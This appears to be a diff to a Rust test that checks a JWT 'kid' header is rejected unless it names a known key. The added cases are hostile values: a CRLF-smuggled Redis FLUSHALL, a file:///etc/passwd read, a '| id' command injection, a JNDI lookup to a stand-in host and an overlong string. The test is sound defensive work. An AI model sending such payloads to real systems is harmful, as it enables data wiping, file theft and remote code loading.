@@ -748,6 +748,11 @@ async fn a_kid_is_a_name_in_the_key_set_and_nothing_else(way: Way) {
         "https://evil.test/jwks",
         "\0",
         "\r\nX: y",
+        "\r\nFLUSHALL\r\n",
+        "file:///etc/passwd",
+        "| id",
+        "${jndi:ldap://evil.test/a}",
+        &"a".repeat(8_000),
     ] {
         let token = api.token().header("kid", kid).mint();
         api.refuse(kid, &token, "token_key_unknown").await;
